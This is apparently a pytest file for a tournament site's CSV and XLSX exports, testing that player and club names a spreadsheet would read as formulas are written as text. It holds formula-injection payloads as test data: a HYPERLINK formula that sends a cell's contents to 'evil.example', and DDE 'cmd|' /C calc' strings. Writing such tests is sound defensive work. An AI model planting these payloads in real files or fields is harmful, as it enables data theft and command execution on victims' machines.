"""Spreadsheet formulas in names (issue 17, item 14): a name that a spreadsheet program would
read as a formula is written as text (a leading apostrophe, as OWASP recommends) in every CSV
and XLSX the site writes; figures, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from tests.factories import make_club_organiser, make_evening
from tournaments.events.entries import scoresheet_import
from tournaments.reports import standings
from tournaments.reports.cells import cell_safe
from tournaments.reports.data import Column, StandingLine, StandingsSheet, TournamentInfo

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3"
FORMULA_CLUB = "=1+1"


def test_cell_safe_neutralises_every_formula_start_and_keeps_numbers():
    for text in ("=1", "+1", "-1", "@1", "\t=1", "\r=1"):
        assert cell_safe(text) == "'" + text
    assert cell_safe("Олена -1") == "Олена -1"
    assert cell_safe(-5) == -5 and cell_safe(-2.5) == -2.5 and cell_safe(None) is None


def hostile_sheet() -> StandingsSheet:
    info = TournamentInfo(
        id=1,
        name="=cmd|' /C calc'!A0",
        club=FORMULA_CLUB,
        ruleset="moscow",
        ruleset_label="Moscow",
        table_size=2,
        system_label="Swiss",
        match_score="difference",
        rounds=1,
        rounds_played=1,
        status_label="Finished",
        generated_at=datetime(2026, 11, 25, 20, 0),
    )
    lines = [
        StandingLine(
            rank=i + 1,
            rank_label=str(i + 1),
            rank_shared=False,
            player=name,
            club=FORMULA_CLUB,
            match_points=-3 + i,  # a negative figure: a number, not a formula
            played=1,
            won=0,
            game_points=-40 - i,
            points_against=100,
            bytes=0,
            tiebreaks={"buchholz": -7},
        )
        for i, name in enumerate([HYPERLINK, AT_SUM, PLUS, MINUS])
    ]
    return StandingsSheet(
        tournament=info, tiebreaks=[Column("buchholz", "Buchholz", "Buch")], lines=lines
    )


def test_the_standings_csv_writes_formulas_as_text_and_figures_as_numbers():
    rows = list(
        csv.DictReader(io.StringIO(standings.standings_csv(hostile_sheet()).decode("utf-8-sig")))
    )
    # Headed as the XLSX, in the language of the job (English here).
    assert [r["Player"] for r in rows] == ["'" + n for n in (HYPERLINK, AT_SUM, PLUS, MINUS)]
    assert {r["Club"] for r in rows} == {"'" + FORMULA_CLUB}
    assert rows[0]["Match points"] == "-3" and rows[0]["Game points"] == "-40"
    assert rows[0]["Buchholz"] == "-7"


def test_the_standings_xlsx_has_no_formula_cell():
    book = load_workbook(io.BytesIO(standings.standings_xlsx(hostile_sheet())))
    table = book.worksheets[0]
    for row in table.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    # Text cells with the quote-prefix style: the names themselves, no apostrophe in them
    # (issue 35, item 20), and never a formula.
    names = [row[1] for row in table.iter_rows(min_row=2, values_only=True)]
    assert names == [HYPERLINK, AT_SUM, PLUS, MINUS]
    for row in table.iter_rows(min_row=2, min_col=2, max_col=2):
        assert row[0].data_type == "s" and row[0].quotePrefix, row[0].coordinate
    first = next(table.iter_rows(min_row=2, values_only=True))
    assert first[2] == FORMULA_CLUB
    assert table.cell(row=2, column=3).quotePrefix
    assert first[3] == -3 and isinstance(first[3], int)  # still a number to sum
    info = book.worksheets[1]
    for row in info.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)


@pytest.mark.django_db
def test_the_deals_csv_writes_a_formula_name_as_text():
    ev = make_evening()
    make_club_organiser(ev.organiser, ev.tournament.club)
    a, b = HYPERLINK, "@evil"
    scoresheet_import(
        tournament=ev.tournament,
        records=[
            {
                "format": "deberc-scoresheet/1",
                "ruleset": "moscow",
                "players": [a, b],
                "first_dealer": a,
                "deals": [{"trump": "S", "declarer": b, "points": {a: 40, b: 90}, "last_trick": b}],
                "round": 1,
                "table": 9,
            }
        ],
    )
    api = APIClient()
    api.force_authenticate(user=ev.organiser)
    response = api.get(f"/api/v1/tournaments/{ev.tournament.pk}/deals.csv")
    assert response.status_code == 200
    text = response.content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    players = {r["player"] for r in rows}
    assert "'" + HYPERLINK in players and "'@evil" in players
    assert HYPERLINK not in players
    declarers = {r["declarer"] for r in rows if r["player"] == "'" + HYPERLINK}
    assert declarers == {"'@evil"}
